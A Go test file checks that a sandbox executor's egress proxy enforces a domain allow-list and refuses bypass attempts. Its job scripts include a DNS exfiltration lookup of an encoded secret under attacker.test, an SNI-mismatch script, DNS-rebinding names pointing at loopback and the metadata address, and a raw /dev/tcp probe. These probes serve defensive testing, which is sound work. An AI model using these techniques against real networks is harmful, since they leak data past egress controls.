package runs

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/airlockhq/airlock/pkg/bundle"
	"github.com/airlockhq/airlock/pkg/egress"
	"github.com/airlockhq/airlock/pkg/nettest"
	"github.com/airlockhq/airlock/services/executor/internal/netpolicy"
	"github.com/airlockhq/airlock/services/executor/internal/sandbox"
)

// These tests run real jobs (runc and runsc) with a domains policy against
// a web host in a network namespace the test makes, at documentation
// addresses (203.0.113.0/24, 2001:db8::/32) that the classifier takes for
// public, and an upstream DNS server the test runs on loopback, which
// logs every name it is asked.

// startWebHost is the boundary tests' web host (nettest.StartWeb) on
// webHostConfig's addresses.
func startWebHost(t *testing.T) *nettest.Web {
	t.Helper()
	return nettest.StartWeb(t, webHostConfig())
}

// webHostConfig is a test host on a /30 of 203.0.113.0/25 (the end-to-end
// tests take the other half) and 2001:db8:7a00::/40.
func webHostConfig() nettest.Config {
	n := int(testSeq.Add(1))
	return nettest.Config{
		Name:    fmt.Sprintf("rw%04x%02x", os.Getpid()&0xffff, n&0xff),
		Prefix:  nettest.Subnet(netip.MustParsePrefix("203.0.113.0/25"), 30, (os.Getpid()+n)%32),
		Prefix6: nettest.Subnet(netip.MustParsePrefix("2001:db8:7a00::/40"), 64, (os.Getpid()&0xffff)<<8|n&0xff),
	}
}

// withDomainsNetwork gives h a network manager with IPv6 (so the jobs
// have both families) and the upstream resolver at resolver.
func withDomainsNetwork(t *testing.T, h *harness, resolver netip.AddrPort) *netpolicy.Manager {
	t.Helper()
	n := int(testSeq.Add(1))
	nm, err := netpolicy.New(netpolicy.Config{
		Dir:    filepath.Join(t.TempDir(), "net"),
		Name:   fmt.Sprintf("rue%d_%d", os.Getpid(), n),
		Pool4:  netip.MustParsePrefix(fmt.Sprintf("10.217.%d.0/24", (os.Getpid()*7+n)%256)),
		Pool6:  netip.MustParsePrefix(fmt.Sprintf("fd8e:7a1e:%x::/48", (os.Getpid()*7+n)&0xffff)),
		Logger: slog.New(slog.NewTextHandler(testWriter{t}, &slog.HandlerOptions{Level: slog.LevelWarn})),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		h.m.Close()
		if err := nm.Close(); err != nil {
			t.Errorf("netpolicy Close: %v", err)
		}
	})
	h.m.cfg.Network = nm
	h.m.cfg.Resolver = UpstreamResolver([]netip.AddrPort{resolver})
	return nm
}

func domainsPolicy(names ...string) NetworkPolicy {
	p := egress.Policy{Names: namesOf(names)}
	p, err := p.Normalize()
	if err != nil {
		panic(err)
	}
	return NetworkPolicy{Net: netpolicy.Policy{Proxied: true}, Names: p}
}

// The names of the boundary tests, and what the upstream answers for them.
func egressRecords(w *nettest.Web) map[string][]netip.Addr {
	public := []netip.Addr{w.IP, w.IP6}
	return map[string][]netip.Addr{
		"allowed.test":       public,
		"a.wild.test":        public,
		"wild.test":          public,
		"notlisted.test":     public,
		"rebind-loop.test":   {netip.MustParseAddr("127.0.0.1")},
		"rebind-host.test":   {w.HostIP},
		"rebind-meta.test":   {netip.MustParseAddr("169.254.169.254")},
		"rebind-mapped.test": {netip.MustParseAddr("::ffff:127.0.0.1")},
		"rebind-6to4.test":   {netip.MustParseAddr("2002:a9fe:a9fe::1")},
		"mixed.test":         {w.IP, netip.MustParseAddr("10.0.0.1")},
	}
}

var egressNames = []string{"allowed.test", "*.wild.test", "rebind-loop.test", "rebind-host.test", "rebind-meta.test",
	"rebind-mapped.test", "rebind-6to4.test", "mixed.test"}

// sniMismatch opens CONNECT allowed.test:443 on the explicit proxy, then
// sends a ClientHello for another name through it.
const sniMismatch = `
import os, socket, ssl, sys
host, port = os.environ["HTTPS_PROXY"][len("http://"):].rsplit(":", 1)
s = socket.create_connection((host.strip("[]"), int(port)), timeout=10)
s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
head = s.recv(4096)
print("connect:", head.split(b"\r\n")[0].decode())
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname="notlisted.test")
    t.sendall(b"GET / HTTP/1.0\r\nHost: notlisted.test\r\n\r\n")
    print("REACHED", t.recv(4096))
except Exception as e:
    print("refused:", type(e).__name__, e); sys.exit(1)
`

// udpProbe sends a DNS-looking datagram straight to a resolver and waits.
const udpProbe = `
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1.5)
try:
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x01\x00\x01", (sys.argv[1], 53))
    print("ANSWERED", s.recv(512)); sys.exit(0)
except Exception as e:
    print("no answer:", e); sys.exit(1)
`

// tcpProbe connects straight to an address and port.
const tcpProbe = `
import socket, sys
try:
    socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2); print("CONNECTED"); sys.exit(0)
except Exception as e:
    print("refused:", e); sys.exit(1)
`

// boundaryScript is the job's side: one "CASE name rc=N output" line per
// attempt, then a stream to allowed.test left open for the narrowing.
func boundaryScript(w *nettest.Web, otherProxy netip.Addr) string {
	ip, ip6 := w.IP.String(), w.IP6.String()
	cases := [][2]string{
		{"explicit-https", "curl -sSk --max-time 10 https://allowed.test/"},
		{"explicit-http", "curl -sS --max-time 10 http://allowed.test/"},
		{"transparent-https", "curl -sSk --noproxy '*' --max-time 10 https://allowed.test/"},
		{"transparent-http", "curl -sS --noproxy '*' --max-time 10 http://allowed.test/"},
		{"transparent-https-v6", "curl -sSk -6 --noproxy '*' --max-time 10 https://allowed.test/"},
		{"wildcard", "curl -sSk --max-time 10 https://a.wild.test/"},
		{"apex", "curl -sSk --max-time 10 https://wild.test/"},
		{"unlisted", "curl -sSk --max-time 10 https://notlisted.test/"},
		{"ip-literal", "curl -sSk --max-time 10 https://" + ip + "/"},
		{"sni-mismatch", "python3 /work/sni.py"},
		{"sni-to-other-address", "curl -sSk --noproxy '*' --max-time 10 --resolve allowed.test:443:198.51.100.7 https://allowed.test/"},
		{"no-sni", "curl -sSk --noproxy '*' --max-time 10 https://" + ip + "/"},
		{"rebind-loop", "curl -sSk --max-time 10 https://rebind-loop.test/"},
		{"rebind-host", "curl -sSk --max-time 10 https://rebind-host.test/"},
		{"rebind-meta", "curl -sSk --max-time 10 https://rebind-meta.test/"},
		{"rebind-mapped", "curl -sSk --max-time 10 https://rebind-mapped.test/"},
		{"rebind-6to4", "curl -sSk --max-time 10 https://rebind-6to4.test/"},
		{"mixed", "curl -sSk --max-time 10 https://mixed.test/"},
		{"dns-allowed", "getent ahostsv4 allowed.test"},
		{"dns-rebind", "getent ahosts rebind-loop.test"},
		{"exfil", "getent hosts c2VjcmV0LWRhdGE.attacker.test"},
		{"direct-udp-dns", "python3 /work/udp.py " + ip},
		{"direct-tcp-dns", "python3 /work/tcp.py " + ip + " 53"},
		{"direct-port", "python3 /work/tcp.py " + ip + " 8080"},
		{"direct-v6", "python3 /work/tcp.py " + ip6 + " 8080"},
		{"other-job-proxy", "python3 /work/tcp.py " + otherProxy.String() + " 15128"},
	}
	var b strings.Builder
	b.WriteString("c() { name=$1; shift; out=$(\"$@\" 2>&1); rc=$?; echo \"CASE $name rc=$rc $(printf '%s' \"$out\" | tr '\\n' ' ' | head -c 400)\"; }\n")
	for _, c := range cases {
		fmt.Fprintf(&b, "c %s %s\n", c[0], c[1])
	}
	b.WriteString(`(curl -sSk -N --max-time 60 https://allowed.test/stream >/tmp/stream 2>&1; echo "STREAM rc=$? $(tail -c 200 /tmp/stream | tr '\n' ' ')") &
while ! grep -q tick /tmp/stream 2>/dev/null; do sleep 0.05; done
echo streaming
` + awaitSignal(1) + `
c after-narrow curl -sSk --max-time 10 https://allowed.test/
c wildcard-after-narrow curl -sSk --max-time 10 https://a.wild.test/
wait
`)
	return b.String()
}

// caseLines maps each CASE line's name to the rest of it.
func caseLines(stdout string) map[string]string {
	out := map[string]string{}
	for _, line := range strings.Split(stdout, "\n") {
		if rest, ok := strings.CutPrefix(line, "CASE "); ok {
			name, rest, _ := strings.Cut(rest, " ")
			out[name] = rest
		}
	}
	return out
}

// workFile is a script's lines that write content to /work/name: the job
// writes its own files, since a batch job under runsc may not see a file
// the host adds to its mounts while it runs.
func workFile(name, content string) string {
	const eof = "AIRLOCK_TEST_EOF"
	if strings.Contains(content, eof) {
		panic("workFile: content holds the terminator")
	}
	return "cat > /work/" + name + " <<'" + eof + "'\n" + content + "\n" + eof + "\n"
}

func (h *harness) waitStdout(t *testing.T, jobID, want string, d time.Duration) string {
	t.Helper()
	end := time.Now().Add(d)
	for {
		out, _ := os.ReadFile(filepath.Join(h.m.runDir(jobID), "stdout.log"))
		if strings.Contains(string(out), want) {
			return string(out)
		}
		if time.Now().After(end) {
			t.Fatalf("job %s did not print %q in %s; stdout:\n%s", jobID, want, d, out)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func readEgress(t *testing.T, h *harness, jobID string) []egress.Record {
	t.Helper()
	f, err := os.Open(filepath.Join(h.m.runDir(jobID), bundle.EgressFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := egress.ReadRecords(f)
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// A job with a domains policy reaches exactly its names, by the explicit
// proxy and by tools that ignore proxy variables, under runc and runsc;
// every way around the proxy the issue lists is refused, the decision log
// has each attempt with its reason, no name the policy does not allow
// reaches the upstream resolver, and a live narrowing cuts an open
// connection.
func TestDomainsPolicyBoundary(t *testing.T) {
	for _, class := range []sandbox.Class{sandbox.ClassRunc, sandbox.ClassRunsc} {
		t.Run(string(class), func(t *testing.T) {
			testDomainsBoundary(t, class)
		})
	}
}

func testDomainsBoundary(t *testing.T, class sandbox.Class) {
	h, _ := newHarness(t, false)
	w := startWebHost(t)
	u := nettest.StartDNS(t, egressRecords(w))
	withDomainsNetwork(t, h, u.Addr)

	// Another domains job, whose proxy the first must not reach.
	other := h.grantFor("echo ready; sleep 120")
	other.Network = domainsPolicy("allowed.test")
	other.Class = class
	h.start(t, other)
	h.waitRunning(t, other.JobID, "ready")
	otherProxy := h.entry(other.JobID).egress.addrs[0]

	g := h.grantFor(workFile("sni.py", sniMismatch) + workFile("udp.py", udpProbe) + workFile("tcp.py", tcpProbe) +
		stepHandler + boundaryScript(w, otherProxy))
	g.Network = domainsPolicy(egressNames...)
	g.Class = class
	g.Limits.Pids = 256
	g.Limits.MemoryBytes = 512 << 20
	g.Limits.Deadline = 4 * time.Minute
	h.start(t, g)
	h.waitRunning(t, g.JobID, "ready")
	out := h.waitStdout(t, g.JobID, "streaming", 3*time.Minute)
	cases := caseLines(out)
	t.Logf("cases:\n%s", out)

	ok := func(name, want string) {
		t.Helper()
		if got := cases[name]; !strings.HasPrefix(got, "rc=0 ") || !strings.Contains(got, want) {
			t.Errorf("%s: %q; want rc=0 and %q", name, got, want)
		}
	}
	// A refusal is a non-zero exit with the mark of how it was refused, so
	// a probe that broke for another reason (a missing tool) does not pass.
	refused := func(name string) {
		t.Helper()
		got := cases[name]
		mark := map[string]string{
			"sni-mismatch": "HTTP/1.1 200 Connection established refused:", "no-sni": "rc=35 ",
			"dns-rebind": "rc=2 ", "exfil": "rc=2 ", "direct-udp-dns": "no answer: timed out",
			"direct-tcp-dns": "refused: timed out", "direct-port": "refused: timed out", "direct-v6": "refused: timed out",
			"other-job-proxy": "refused: timed out",
		}[name]
		if mark == "" {
			mark = "CONNECT tunnel failed, response 403"
		}
		if got == "" || strings.HasPrefix(got, "rc=0 ") || !strings.Contains(got, mark) {
			t.Errorf("%s: %q; want refused, with %q", name, got, mark)
		}
	}
	ok("explicit-https", "hello allowed.test")
	ok("explicit-http", "hello allowed.test")
	ok("transparent-https", "hello allowed.test")
	ok("transparent-http", "hello allowed.test")
	ok("transparent-https-v6", "hello allowed.test")
	ok("wildcard", "hello a.wild.test")
	// The proxy dialled the name, not the address the job chose.
	ok("sni-to-other-address", "hello allowed.test")
	ok("dns-allowed", w.IP.String())
	for _, name := range []string{"apex", "unlisted", "ip-literal", "sni-mismatch", "no-sni", "rebind-loop", "rebind-host", "rebind-meta",
		"rebind-mapped", "rebind-6to4", "mixed", "dns-rebind", "exfil", "direct-udp-dns", "direct-tcp-dns", "direct-port", "direct-v6", "other-job-proxy"} {
		refused(name)
	}
	if n := w.DNSHits(); n != 0 {
		t.Errorf("%d packets or connections reached the web host's port 53 straight from the job", n)
	}

	// Live narrowing: allowed.test leaves the policy; the open stream is
	// cut, a new connection refused, the wildcard still works.
	g2 := next(g, func(g *Grant) {
		g.Network = domainsPolicy(slices.DeleteFunc(slices.Clone(egressNames), func(n string) bool { return n == "allowed.test" })...)
		g.NetworkGeneration = 2
	})
	if _, err := h.m.Update(context.Background(), h.seal(t, g2)); err != nil {
		t.Fatal(err)
	}
	out = h.waitStdout(t, g.JobID, "STREAM rc=", 10*time.Second)
	if strings.Contains(out, "STREAM rc=0 ") {
		t.Errorf("the stream to allowed.test ended cleanly after the narrowing; want it cut")
	}
	h.signal(t, g.JobID)
	run := h.waitEnd(t, g.JobID)
	stdout, _ := os.ReadFile(filepath.Join(h.m.runDir(g.JobID), "stdout.log"))
	cases = caseLines(string(stdout))
	refused("after-narrow")
	ok("wildcard-after-narrow", "hello a.wild.test")
	if run.State != Finished {
		t.Errorf("run ended %s: %+v", run.State, run.Result)
	}

	// The record: every attempt, with why.
	recs := readEgress(t, h, g.JobID)
	// The result's network bytes are the veth's whole frames: at least
	// what the record's connections carried, the job's side.
	var sum egress.Summary
	for _, r := range recs {
		sum.Add(r)
	}
	var sent, received int64
	for _, n := range sum.Names() {
		sent, received = sent+n.BytesOut, received+n.BytesIn
	}
	if r := run.Result; received == 0 || r.NetworkSentBytes < sent || r.NetworkReceivedBytes < received {
		t.Errorf("the result's network bytes: %d sent, %d received; want at least the record's: %d, %d", r.NetworkSentBytes, r.NetworkReceivedBytes, sent, received)
	}
	has := func(via, name string, allowed bool, reason string) {
		t.Helper()
		for _, r := range recs {
			if r.Via == via && r.Name == name && r.Allowed == allowed && strings.Contains(r.Reason+" "+r.End, reason) {
				return
			}
		}
		var same []egress.Record
		for _, r := range recs {
			if r.Name == name {
				same = append(same, r)
			}
		}
		t.Errorf("no %s record for %q allowed=%v with %q in its reason; its records: %+v", via, name, allowed, reason, same)
	}
	has(egress.ViaConnect, "allowed.test", true, "allowed by allowed.test")
	has(egress.ViaHTTP, "allowed.test", true, "allowed by allowed.test")
	has(egress.ViaTransparent, "allowed.test", true, "allowed by allowed.test")
	has(egress.ViaConnect, "a.wild.test", true, "allowed by *.wild.test")
	has(egress.ViaConnect, "wild.test", false, "matches only names below it")
	has(egress.ViaConnect, "notlisted.test", false, "not in the policy")
	has(egress.ViaConnect, w.IP.String(), false, "IP address")
	has(egress.ViaConnect, "allowed.test", false, "SNI")
	has(egress.ViaTransparent, "", false, "no SNI")
	has(egress.ViaConnect, "rebind-loop.test", false, "loopback")
	has(egress.ViaConnect, "rebind-host.test", false, "refused by this executor")
	has(egress.ViaConnect, "rebind-meta.test", false, "link-local")
	has(egress.ViaConnect, "rebind-mapped.test", false, "loopback")
	has(egress.ViaConnect, "rebind-6to4.test", false, "link-local")
	has(egress.ViaConnect, "mixed.test", false, "private")
	has(egress.ViaDNS, "allowed.test", true, "allowed.test")
	has(egress.ViaDNS, "rebind-loop.test", false, "loopback")
	has(egress.ViaDNS, "c2vjcmv0lwrhdge.attacker.test", false, "not in the policy")
	has(egress.ViaConnect, "allowed.test", true, "cut: the policy no longer allows")
	has(egress.ViaConnect, "allowed.test", false, "not in the policy")
	for _, r := range recs {
		if r.Via == egress.ViaTransparent && r.Name == "allowed.test" && r.Allowed && strings.HasPrefix(r.Addr, "198.51.100.") {
			t.Errorf("the proxy dialled the address the job chose: %+v", r)
		}
	}

	// DNS carried nothing out: the upstream heard only names the policy
	// allows (and never the wildcard's apex or an unlisted name).
	pol, err := egress.Policy{Names: namesOf(egressNames)}.Normalize()
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range u.Asked() {
		if !pol.AllowsName(n) {
			t.Errorf("the upstream resolver was asked %q, which the policy does not allow", n)
		}
	}
}

func namesOf(names []string) []egress.Name {
	out := make([]egress.Name, len(names))
	for i, n := range names {
		out[i] = egress.Name{Name: n}
	}
	return out
}

// freebindListen listens on addr even before the address exists on the
// host (IP_FREEBIND).
func freebindListen(t *testing.T, addr string) net.Listener {
	t.Helper()
	lc := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
		var serr error
		err := c.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.IPPROTO_IP, unix.IP_FREEBIND, 1) })
		if err != nil {
			return err
		}
		return serr
	}}
	ln, err := lc.Listen(context.Background(), "tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	return ln
}

// Fail closed: a domains job whose egress proxy cannot listen does not
// start, and one whose proxy and DNS server die while it runs has no
// network left, not an open one.
func TestDomainsFailClosed(t *testing.T) {
	h, _ := newHarness(t, false)
	w := startWebHost(t)
	u := nettest.StartDNS(t, egressRecords(w))
	nm := withDomainsNetwork(t, h, u.Addr)

	// The first job's host end is the pool's first address: take its
	// proxy port before the job exists.
	freebindListen(t, net.JoinHostPort(nextHostEnd(t, nm).String(), fmt.Sprint(netpolicy.ExplicitProxyPort)))
	g := h.grantFor("echo started")
	g.Network = domainsPolicy("allowed.test")
	h.start(t, g)
	run := h.waitEnd(t, g.JobID)
	if run.State != Failed || !strings.Contains(run.NetworkFailure, "egress proxy") {
		t.Fatalf("a job whose proxy could not listen: state %s, network failure %q; want failed for the egress proxy", run.State, run.NetworkFailure)
	}
	if out, _ := os.ReadFile(filepath.Join(h.m.runDir(g.JobID), "stdout.log")); bytes.Contains(out, []byte("started")) {
		t.Errorf("the job ran: %q", out)
	}

	// The services die mid-job.
	g = h.grantFor(waitForSignal + `for u in https://allowed.test/ http://allowed.test/; do
  if curl -sSk --max-time 5 "$u" >/dev/null 2>&1; then echo "REACHED $u"; else echo "refused $u"; fi
  if curl -sSk --noproxy '*' --max-time 5 --resolve allowed.test:443:` + w.IP.String() + ` --resolve allowed.test:80:` + w.IP.String() + ` "$u" >/dev/null 2>&1; then echo "REACHED direct $u"; else echo "refused direct $u"; fi
done
if getent hosts allowed.test; then echo "REACHED dns"; else echo "refused dns"; fi
if curl -sS --max-time 5 http://` + w.IP.String() + `:8080/ >/dev/null 2>&1; then echo "REACHED other port"; else echo "refused other port"; fi
echo done`)
	g.Network = domainsPolicy("allowed.test")
	h.start(t, g)
	h.waitRunning(t, g.JobID, "ready")
	e := h.entry(g.JobID)
	e.updateMu.Lock()
	e.egress.proxy.Close()
	e.egress.dns.Close()
	e.updateMu.Unlock()
	h.signal(t, g.JobID)
	run = h.waitEnd(t, g.JobID)
	out, _ := os.ReadFile(filepath.Join(h.m.runDir(g.JobID), "stdout.log"))
	if bytes.Contains(out, []byte("REACHED")) || !bytes.Contains(out, []byte("done")) {
		t.Errorf("after the egress services died, the job printed:\n%s", out)
	}
	t.Logf("after the egress services died: %s (%s)", out, run.State)
}

// nextHostEnd is the host end's IPv4 address of the next job nm makes:
// slots are handed out in turn, one /30 each, so it is the one after a
// probe's.
func nextHostEnd(t *testing.T, nm *netpolicy.Manager) netip.Addr {
	t.Helper()
	n, err := nm.Create(context.Background(), fmt.Sprintf("probe-%d", testSeq.Add(1)), netpolicy.Policy{Proxied: true})
	if err != nil {
		t.Fatal(err)
	}
	a := n.ProxyAddrs()[0]
	if err := n.Close(); err != nil {
		t.Fatal(err)
	}
	return a.Next().Next().Next().Next()
}

// DNS rebinding: the upstream answers one allowed name with the host's
// loopback, the host's own address, the metadata address, an ::ffff: and a
// 6to4 form of them, and then a public-looking address, one answer per
// lookup. Every connection before the last is refused, the last reaches
// the web host at exactly the address that was checked, and a job's own
// lookups get nothing internal either. Another job's address is out of
// reach too.
func TestDomainsRebinding(t *testing.T) {
	h, _ := newHarness(t, false)
	n := int(testSeq.Add(1))
	web := nettest.StartWeb(t, nettest.Config{
		Name:   fmt.Sprintf("rr%04x%02x", os.Getpid()&0xffff, n&0xff),
		Prefix: nettest.Subnet(netip.MustParsePrefix("203.0.113.0/25"), 30, (os.Getpid()+n)%32),
	})
	dns := nettest.StartDNS(t, nil)
	internal := [][]netip.Addr{
		{netip.MustParseAddr("127.0.0.1")}, {web.HostIP}, {netip.MustParseAddr("169.254.169.254")},
		{netip.MustParseAddr("::ffff:169.254.169.254")}, {netip.MustParseAddr("2002:7f00:1::1")},
	}
	dns.Sequence("flip.test", append(slices.Clone(internal), []netip.Addr{web.IP})...)
	dns.Sequence("flip-dns.test", append(slices.Clone(internal), []netip.Addr{web.IP})...)
	withDomainsNetwork(t, h, dns.Addr)

	other := h.grantFor("echo ready; sleep 120")
	other.Network = domainsPolicy("flip.test")
	h.start(t, other)
	h.waitRunning(t, other.JobID, "ready")
	otherJob := h.entry(other.JobID).egress.addrs[0].Next() // the other job's own address

	var script strings.Builder
	script.WriteString(waitForSignal)
	for i := range len(internal) + 1 {
		fmt.Fprintf(&script, "if out=$(curl -sSk --max-time 10 https://flip.test/ 2>&1); then echo \"flip %d reached $out\"; else echo \"flip %d refused\"; fi\n", i, i)
	}
	for i := range len(internal) + 1 {
		fmt.Fprintf(&script, "if out=$(getent ahostsv4 flip-dns.test 2>&1); then echo \"lookup %d $out\" | head -1; else echo \"lookup %d refused\"; fi\n", i, i)
	}
	fmt.Fprintf(&script, "if timeout 3 bash -c 'exec 3<>/dev/tcp/%s/8080' 2>/dev/null; then echo 'other job REACHED'; else echo 'other job refused'; fi\n", otherJob)
	g := h.grantFor(script.String())
	g.Network = domainsPolicy("flip.test", "flip-dns.test")
	h.start(t, g)
	h.waitRunning(t, g.JobID, "ready")
	h.signal(t, g.JobID)
	run := h.waitEnd(t, g.JobID)
	out, _ := os.ReadFile(filepath.Join(h.m.runDir(g.JobID), "stdout.log"))
	t.Logf("%s: %s", run.State, out)
	for i := range internal {
		if !strings.Contains(string(out), fmt.Sprintf("flip %d refused", i)) {
			t.Errorf("connection %d, whose lookup answered %v, was not refused", i, internal[i])
		}
	}
	// The job's own lookups (each may ask the upstream more than once, as
	// the resolver retries a refusal) are refused or public, never internal.
	lookups := regexp.MustCompile(`(?m)^lookup \d+ (.*)$`).FindAllStringSubmatch(string(out), -1)
	if len(lookups) != len(internal)+1 || lookups[0][1] != "refused" {
		t.Errorf("lookups %q: want %d, the first refused", lookups, len(internal)+1)
	}
	for _, l := range lookups {
		if l[1] != "refused" && !strings.HasPrefix(l[1], web.IP.String()+" ") {
			t.Errorf("the job's lookup got %q, neither refused nor the public %s", l[0], web.IP)
		}
	}
	if !strings.Contains(string(out), fmt.Sprintf("flip %d reached hello flip.test", len(internal))) {
		t.Errorf("the last connection, once the answer was public, did not reach the web host")
	}
	if len(lookups) > 0 {
		if l := lookups[len(lookups)-1]; !strings.HasPrefix(l[1], web.IP.String()+" ") {
			t.Errorf("the job's last lookup did not get the public answer %s: %q", web.IP, l[0])
		}
	}
	if !strings.Contains(string(out), "other job refused") {
		t.Errorf("the job reached another job's address %s", otherJob)
	}
	var dialled []string
	for _, r := range readEgress(t, h, g.JobID) {
		if r.Name == "flip.test" && r.Allowed {
			dialled = append(dialled, r.Addr)
		}
	}
	if want := []string{netip.AddrPortFrom(web.IP, 443).String()}; !slices.Equal(dialled, want) {
		t.Errorf("allowed connections to flip.test dialled %v, want exactly %v", dialled, want)
	}
}

// A running domains job may move between names and deny_all (its veth
// and services stay), and never to an allow policy; a job that did not
// start with domains cannot move to them. Each refused change leaves the
// policy in force as it was.
func TestDomainsModeChanges(t *testing.T) {
	h, _ := newHarness(t, false)
	w := startWebHost(t)
	u := nettest.StartDNS(t, egressRecords(w))
	withDomainsNetwork(t, h, u.Addr)

	try := "if curl -sSk --max-time 5 -o /dev/null https://allowed.test/; then echo \"reached $1\"; else echo \"refused $1\"; fi"
	script := "try() { " + try + "; }\n" + stepHandler + "\n"
	for i := 1; i <= 3; i++ {
		script += awaitSignal(i) + fmt.Sprintf("try %d\n", i)
	}
	g1 := h.grantFor(script)
	g1.Network = domainsPolicy("allowed.test")
	h.start(t, g1)
	h.waitRunning(t, g1.JobID, "ready")
	step := func(i int, want string) {
		t.Helper()
		h.signal(t, g1.JobID)
		out := h.waitStdout(t, g1.JobID, fmt.Sprintf(" %d\n", i), 30*time.Second)
		if !strings.Contains(out, fmt.Sprintf("%s %d\n", want, i)) {
			t.Fatalf("step %d: want %s; stdout %q", i, want, out)
		}
	}
	step(1, "reached")

	g2 := next(g1, func(g *Grant) {
		g.Network = NetworkPolicy{}
		g.NetworkGeneration = 2
	})
	if _, err := h.m.Update(context.Background(), h.seal(t, g2)); err != nil {
		t.Fatal(err)
	}
	step(2, "refused")

	allow := next(g2, func(g *Grant) {
		g.Network = allowPolicy(w.IP.String() + "/32")
		g.NetworkGeneration = 3
	})
	if _, err := h.m.Update(context.Background(), h.seal(t, allow)); err == nil || !strings.Contains(err.Error(), "started with a domains policy") {
		t.Fatalf("a domains job moved to allow: %v", err)
	}

	g3 := next(g2, func(g *Grant) {
		g.Network = domainsPolicy("allowed.test")
		g.NetworkGeneration = 3
	})
	if _, err := h.m.Update(context.Background(), h.seal(t, g3)); err != nil {
		t.Fatal(err)
	}
	step(3, "reached")
	if run := h.waitEnd(t, g1.JobID); run.State != Finished {
		t.Fatalf("run ended %s %+v", run.State, run.Result)
	}

	// A job started deny_all has no proxy to move to.
	d := h.grantFor(waitForSignal)
	h.start(t, d)
	h.waitRunning(t, d.JobID, "ready")
	d2 := next(d, func(g *Grant) {
		g.Network = domainsPolicy("allowed.test")
		g.NetworkGeneration = 2
	})
	if _, err := h.m.Update(context.Background(), h.seal(t, d2)); err == nil || !strings.Contains(err.Error(), "did not start with a domains policy") {
		t.Fatalf("a deny_all job moved to domains: %v", err)
	}
	h.signal(t, d.JobID)
	h.waitEnd(t, d.JobID)
}
